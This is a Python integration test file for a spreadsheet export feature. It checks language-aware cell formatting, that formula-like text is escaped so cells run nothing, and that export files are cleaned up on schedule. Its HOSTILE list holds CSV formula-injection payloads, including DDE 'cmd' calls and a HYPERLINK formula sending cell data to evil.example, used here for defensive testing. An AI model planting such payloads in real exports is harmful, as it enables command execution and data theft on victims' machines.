"""What stands in the cells: words for people in their language and on the workspace's clock, exact numbers, no formulas."""

import pytest

from dougong.jobs import NewJob
from dougong.settings import Settings
from runtime.jobs.handlers import clean_exports
from tests.integration.exports.conftest import Lists, worker

pytestmark = pytest.mark.database

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", " =1+1", "\u200b=1", "=cmd|' /C calc'!A0", "＝1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3+cmd|' /C calc'!D2", "@foo", "+86 10 1234", "=\"a\",=1",
]  # fmt: skip
HARMLESS = ["-5", "+8613800138000", "-1.50", "a=b", "x, y", 'say "hi"', "two\nlines", "Müller", "工程", "a;=1"]


async def test_every_kind_in_words(lists: Lists, settings: Settings) -> None:
    await lists.sql("DELETE FROM {s}.sales__order")
    office = lists.office
    customer = await office.customers.created(name="凤凰公司", credit_limit="99999999999999.25")
    values = {
        "subject": "A", "customer": customer["id"], "status": "open", "tags": ["a", "b"], "amount": "1234567890.5",
        "count": "-3", "discount": "0.0525", "day": "2026-11-24", "at": "2026-11-24T17:30:05Z", "clock": "09:05:00",
        "urgent": True, "seller": str(office.admin.member_id), "items": [{"values": {"product": "x", "qty": "2", "price": "0.1"}}],
    }  # fmt: skip
    await office.orders.created(**values)
    keys = [*(key for key in values if key != "items"), "total", "credit", "email"]
    wanted = [
        "A",
        "凤凰公司",
        "open",
        "a、b",
        "1234567890.50",
        "-3",
        "5.25%",
        "2026-11-24",
        "2026-11-25 01:30:05",
        "09:05:00",
    ]
    async with worker(lists, settings):
        answer = await office.client.post(lists.url(), json={"fields": keys}, headers={"accept-language": "zh-CN"})
        chinese = (await lists.table(office.client, answer.json()["job"]))[1]
        english = (await lists.table(office.client, await lists.begin(office.client, fields=keys)))[1]
    assert chinese == [*wanted, "是", "王管理", "0.2", "99999999999999.25", ""]
    assert (english[3], english[10]) == ("a, b", "Yes")


async def test_cells_run_nothing(lists: Lists, settings: Settings) -> None:
    await lists.sql("DELETE FROM {s}.sales__order")
    texts = [*HOSTILE, *HARMLESS]
    for text in texts:
        await lists.office.orders.created(subject="x", note=text)
    async with worker(lists, settings):
        lines = await lists.table(lists.office.client, await lists.begin(lists.office.client, fields=["note"]))
    assert [line[0] for line in lines[1:]] == [*(f"'{text}" for text in HOSTILE), *HARMLESS]


async def test_files_go_after_a_week_and_at_once_when_cancelled(lists: Lists, settings: Settings) -> None:
    await lists.fill(1)
    client = lists.office.client
    async with worker(lists, settings):
        jobs = [await lists.begin(client) for _ in range(5)]
        for job in jobs:
            await lists.until(job, "done")
        old, cancelled, unknown, failed, young = jobs
        await lists.sql("UPDATE {s}.job SET finished_at = now() - interval '169 hours' WHERE id = $1", old)
        await lists.sql("UPDATE {s}.job SET state = 'cancelled' WHERE id = $1", cancelled)
        await lists.sql("DELETE FROM {s}.job WHERE id = $1", unknown)
        await lists.sql("UPDATE {s}.job SET state = 'failed' WHERE id = $1", failed)
        shown = (await client.get(f"/api/v1/w/{lists.workspace.key}/jobs/{old}")).json()
        [clean] = await lists.add(NewJob(clean_exports.KIND, {}))
        await lists.until(clean, "done")
    left = await lists.parts.exports.files.kept(lists.workspace)
    assert left.keys() & set(jobs) == {failed, young}
    assert shown["file"] is None
    assert (await lists.fetch(client, old)).status_code == 404
    assert (await lists.fetch(client, young)).status_code == 200
